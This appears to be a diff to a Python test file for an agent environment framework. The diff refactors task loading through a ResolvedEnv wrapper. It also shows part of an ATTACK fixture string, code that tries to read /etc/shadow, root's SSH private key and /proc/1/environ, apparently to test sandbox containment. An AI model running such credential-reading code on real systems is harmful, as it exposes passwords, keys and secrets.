@@ -22,10 +22,15 @@ def _vf_episode(env_id: str, calls: list[dict], answer: str, contains: str = "")
     """Reset on the first task whose prompt contains `contains`, make each call in its own
     turn, then answer; returns (tool message contents, the last step)."""
     from forge_agent.env import make_env
+    from forge_agent.env.resolved import ResolvedEnv
     from forge_agent.env.tasks import load_tasks
 
     env = make_env(env_id)
-    task = next(t for t in load_tasks(env_id, "train", 10, 0, {}) if contains in str(t["prompt"]))
+    task = next(
+        t
+        for t in load_tasks(ResolvedEnv.of(env_id), "train", 10, 0)
+        if contains in str(t["prompt"])
+    )
 
     async def play():
         await env.reset(task, 0)
@@ -70,6 +75,7 @@ def test_a_verifiers_tool_call_off_its_schema_is_an_error_naming_the_tool_and_ar
 
 ATTACK = r"""
 import os, socket
+from forge_agent.env.resolved import ResolvedEnv
 found = []
 for path in ('/etc/shadow', '/root/.bashrc', '/root/.ssh/id_rsa', '/proc/1/environ'):
     try:
